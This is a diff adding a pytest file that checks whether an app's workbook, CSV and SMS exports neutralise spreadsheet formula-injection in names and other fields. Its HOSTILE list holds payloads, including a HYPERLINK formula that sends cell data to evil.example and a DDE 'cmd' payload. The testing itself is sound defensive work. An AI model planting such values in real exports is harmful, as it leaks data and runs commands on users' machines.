@@ -1,0 +1,177 @@
+"""Hostile names leave GridDesk as text: no exported workbook holds a formula cell, no CSV value
+starts with a character a spreadsheet would run, and text messages carry cleaned names.
+
+The small demo branch gets hostile team, specialist, grid, customer, address, product and
+task-outcome texts (as a core-system extract could carry them); every export is then read
+back, as XML inside the workbook and as CSV fields."""
+
+from __future__ import annotations
+
+import csv
+import zipfile
+from pathlib import Path
+
+import pytest
+from export_demo import AS_OF, demo  # noqa: F401 - the module's demo fixture
+from openpyxl import load_workbook
+from sqlalchemy import select, update
+
+from app.models import Customer, Grid, Policy, Specialist, Task, Team
+from app.services.exports import resolve_scope
+from app.services.exports.detail import write_detail
+from app.services.exports.meeting import write_meeting_workbook
+from app.services.inert import csv_value, is_risky
+from app.services.intake.sms import SpecialistContact, agent_change_text, specialist_change_text
+from app.services.metrics.formatting import render_persistency
+from app.services.metrics.persistency import persistency_report
+from app.services.periods import Period
+from app.services.table_file import TableData, write_table
+
+LINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+HOSTILE = [LINK, "+SUM(1,2)", "-2+3+cmd|' /C calc'!A0", "@SUM(A1)", "\t=1+1", "\r=1+1"]
+
+
+@pytest.fixture(scope="module")
+def hostile(demo):  # noqa: F811
+    """Give the demo's names hostile texts, one pattern after another."""
+
+    def pick(i: int) -> str:
+        return HOSTILE[i % len(HOSTILE)] + f" #{i}"
+
+    with demo.Session() as s, s.begin():
+        for model, column in (
+            (Team, Team.name),
+            (Specialist, Specialist.name),
+            (Grid, Grid.name),
+        ):
+            for i, row_id in enumerate(s.scalars(select(model.id)).all()):
+                s.execute(update(model).where(model.id == row_id).values({column.key: pick(i)}))
+        ids = s.scalars(select(Customer.id).order_by(Customer.id).limit(60)).all()
+        for i, cid in enumerate(ids):
+            s.execute(
+                update(Customer)
+                .where(Customer.id == cid)
+                .values(name=pick(i), address=pick(i + 1) + " 成都市")
+            )
+        for i, pid in enumerate(s.scalars(select(Policy.id).order_by(Policy.id).limit(60))):
+            s.execute(update(Policy).where(Policy.id == pid).values(product=pick(i)))
+        for i, tid in enumerate(s.scalars(select(Task.id).order_by(Task.id).limit(60))):
+            s.execute(update(Task).where(Task.id == tid).values(outcome=pick(i)))
+    return demo
+
+
+def _formula_cells(path: Path) -> list[str]:
+    """Return every <f> element written into the workbook's sheets."""
+    found = []
+    with zipfile.ZipFile(path) as z:
+        for name in z.namelist():
+            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
+                xml = z.read(name).decode("utf-8")
+                if "<f>" in xml or "<f " in xml:
+                    found.append(name)
+    return found
+
+
+def _risky_csv_values(path: Path) -> list[str]:
+    with open(path, encoding="utf-8-sig", newline="") as fh:
+        return [v for row in csv.reader(fh) for v in row if is_risky(v)]
+
+
+def _all_texts(path: Path) -> set[str]:
+    wb = load_workbook(path)
+    return {
+        c.value
+        for ws in wb.worksheets
+        for row in ws.iter_rows()
+        for c in row
+        if isinstance(c.value, str)
+    }
+
+
+def test_detail_workbook_and_csv_hold_hostile_names_as_text(hostile, tmp_path):
+    senior = hostile.user("senior")
+    with hostile.Session() as s:
+        sc = resolve_scope(s, None, branch_id=hostile.branch_id, user=senior)
+        write_detail(s, tmp_path / "detail.xlsx", scope=sc, lang="en", user=senior)
+        for table in ("customers", "policies", "tasks"):
+            write_detail(
+                s, tmp_path / f"{table}.csv", scope=sc, lang="en", user=senior, tables=[table]
+            )
+    assert _formula_cells(tmp_path / "detail.xlsx") == []
+    texts = _all_texts(tmp_path / "detail.xlsx")
+    # The names are kept whole, as text: nothing is lost, nothing runs.
+    assert any(t.startswith(LINK) for t in texts)
+    assert any(t.startswith("@SUM(A1)") for t in texts)
+    for table in ("customers", "policies", "tasks"):
+        path = tmp_path / f"{table}.csv"
+        assert _risky_csv_values(path) == []
+        with open(path, encoding="utf-8-sig", newline="") as fh:
+            values = [v for row in csv.reader(fh) for v in row]
+        assert any(v.startswith("'" + HOSTILE[0]) or v.startswith("'=") for v in values)
+
+
+def test_meeting_workbook_holds_hostile_names_as_text(hostile, tmp_path):
+    senior = hostile.user("senior")
+    path = tmp_path / "meeting.xlsx"
+    with hostile.Session() as s:
+        sc = resolve_scope(s, None, branch_id=hostile.branch_id, user=senior)
+        write_meeting_workbook(
+            s, path, period=Period.parse("2026-Q2"), as_of=AS_OF, scope=sc, user=senior
+        )
+    assert _formula_cells(path) == []
+    wb = load_workbook(path)
+    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if is_risky(c.value)]
+    assert cells, "the hostile team and specialist names are in the workbook"
+    assert all(c.data_type == "s" and c.quotePrefix for c in cells)
+
+
+def test_table_export_holds_hostile_cells_as_text(tmp_path):
+    table = TableData(
+        headers=["=Name", "Count"],
+        kinds=["text", "number"],
+        values=[[h, -3] for h in HOSTILE],
+        texts=[[h, "-3"] for h in HOSTILE],
+    )
+    write_table(tmp_path / "t.xlsx", table)
+    write_table(tmp_path / "t.csv", table)
+    assert _formula_cells(tmp_path / "t.xlsx") == []
+    ws = load_workbook(tmp_path / "t.xlsx").active
+    assert [r[0] for r in ws.iter_rows(min_row=2, values_only=True)] == HOSTILE
+    assert [r[1] for r in ws.iter_rows(min_row=2, values_only=True)] == [-3] * len(HOSTILE)
+    with open(tmp_path / "t.csv", encoding="utf-8-sig", newline="") as fh:
+        rows = list(csv.reader(fh))
+    assert rows[0] == ["'=Name", "Count"]
+    assert [r[0] for r in rows[1:]] == ["'" + h for h in HOSTILE]
+    assert [r[1] for r in rows[1:]] == ["-3"] * len(HOSTILE)  # a plain number stays a number
+
+
+def test_command_line_csv_report_names_hostile_teams_as_text(hostile):
+    with hostile.Session() as s:
+        rows = persistency_report(
+            s, period=Period.parse("2026-Q2"), as_of=AS_OF, by="team", branch_id=hostile.branch_id
+        )
+    out = render_persistency(rows, "csv")
+    values = [v for row in csv.reader(out.splitlines()) for v in row]
+    assert not any(is_risky(v) for v in values)
+    assert any(v.startswith("'" + LINK) for v in values)
+
+
+@pytest.mark.parametrize("name", HOSTILE)
+def test_text_messages_carry_cleaned_names(name):
+    who = SpecialistContact(name=name, phone="13800000000")
+    for text in (
+        specialist_change_text(signature=name, customer_name=name, id_number=None, specialist=who),
+        agent_change_text(signature=name, customer_name=name, id_number=None, specialist=who),
+    ):
+        assert "\t" not in text and "\r" not in text
+        for mark in ("【", "尊敬的", "专员"):
+            after = text.split(mark, 1)[1]
+            assert not after.startswith(("=", "+", "-", "@")), text
+
+
+def test_signed_numbers_stay_numbers_in_csv():
+    assert csv_value("-12.5") == "-12.5"
+    assert csv_value("+8613800000000") == "+8613800000000"
+    assert csv_value("-") == "'-"
+    assert csv_value("=1+1") == "'=1+1"
+    assert csv_value(-3) == -3
